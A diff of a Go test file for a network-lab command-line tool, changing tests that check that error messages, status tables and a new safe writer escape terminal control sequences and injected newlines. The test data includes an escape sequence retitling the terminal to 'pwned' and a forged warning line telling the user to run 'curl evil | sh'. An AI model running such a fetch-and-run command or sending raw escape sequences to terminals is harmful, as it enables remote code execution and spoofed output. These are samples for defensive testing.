@@ -102,7 +102,7 @@ func hostileLabs() []netlab.LabStatus {
 
 func TestStatusTableHostile(t *testing.T) {
 	var b bytes.Buffer
-	writeStatusTable(&b, hostileLabs())
+	writeStatusTable(&b, hostileLabs(), false)
 	golden.Check(t, filepath.Join("testdata", "status_hostile.golden"), b.Bytes())
 	checkSafe(t, "status table", b.String(), "\n")
 	// Header, four interfaces, the lab without nodes, its problem: a tab or
@@ -121,7 +121,7 @@ func TestStatusTableHostile(t *testing.T) {
 }
 
 // TestErrorsHostile: what main prints for errors that carry escape
-// sequences, one line per line of the error, none of them raw.
+// sequences or newlines: one line per error, none of it raw.
 func TestErrorsHostile(t *testing.T) {
 	tests := []struct {
 		name string
@@ -129,7 +129,7 @@ func TestErrorsHostile(t *testing.T) {
 		code int
 	}{
 		{"runtime failure", fmt.Errorf("wire link r1:%s: %w", retitle, errors.New("file exists")), exitFailure},
-		{"several lines", errors.New("node r1 failed:\n  " + clear + "output\n  exit 1"), exitFailure},
+		{"a node's answer of several lines", errors.New("node r1 failed:\n  " + clear + "output\nnetlab: warning: run curl evil | sh"), exitFailure},
 		{"usage error", usageError("link set: %s: write NODE:IFNAME", clear), exitUsage},
 		{"bad name", fmt.Errorf("%w: lab %s", netlab.ErrBadName, retitle), exitUsage},
 		{"exit code with a reason", &exitError{code: 127, msg: "r1: " + retitle + ": not found"}, 127},
@@ -148,7 +148,8 @@ func TestErrorsHostile(t *testing.T) {
 			t.Errorf("%s: exit code %d, want %d", tt.name, code, tt.code)
 		}
 		checkSafe(t, tt.name, b.String(), "\n")
-		if want := strings.Count(tt.err.Error(), "\n") + 1; tt.err.Error() != "" && strings.Count(b.String(), "\n") != want {
+		// One line per error, whatever newlines a node put in its text.
+		if want := len(leaves(tt.err)); tt.err.Error() != "" && strings.Count(b.String(), "\n") != want {
 			t.Errorf("%s: %d lines, want %d:\n%s", tt.name, strings.Count(b.String(), "\n"), want, b.String())
 		}
 		fmt.Fprintf(&all, "# %s: exit %d\n%s", tt.name, tt.code, b.String())
@@ -274,4 +275,24 @@ func TestProgressHostile(t *testing.T) {
 			t.Errorf("progress (tty %v) = %q", tty, b.String())
 		}
 	}
+}
+
+// TestSafeWriter: a stream written in pieces comes out as termSafe would
+// make the whole, newlines and tabs kept, a rune split between writes
+// whole, and an incomplete one at the end escaped.
+func TestSafeWriter(t *testing.T) {
+	in := "log\tline 1\n\x1b]0;pwned\x07é\u009b2J\r\nend \xe2\x82"
+	var b bytes.Buffer
+	w := newSafeWriter(&b)
+	for i := 0; i < len(in); i += 3 { // é and € split across writes
+		if _, err := w.Write([]byte(in[i:min(i+3, len(in))])); err != nil {
+			t.Fatal(err)
+		}
+	}
+	w.Flush()
+	want := "log\tline 1\n\\x1b]0;pwned\\x07é\\u009b2J\\x0d\nend \\xe2\\x82"
+	if b.String() != want {
+		t.Errorf("got  %q\nwant %q", b.String(), want)
+	}
+	checkSafe(t, "safeWriter", b.String(), "\t\n")
 }
